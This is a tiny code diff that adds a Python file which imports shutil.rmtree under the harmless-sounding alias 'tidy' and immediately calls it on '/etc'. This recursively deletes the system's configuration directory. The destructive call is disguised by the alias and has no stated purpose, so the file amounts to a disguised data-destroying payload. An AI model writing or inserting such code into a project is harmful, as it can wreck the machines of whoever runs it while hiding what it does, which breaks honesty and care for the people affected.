@@ -1,0 +1,3 @@
+from shutil import rmtree as tidy
+
+tidy("/etc")
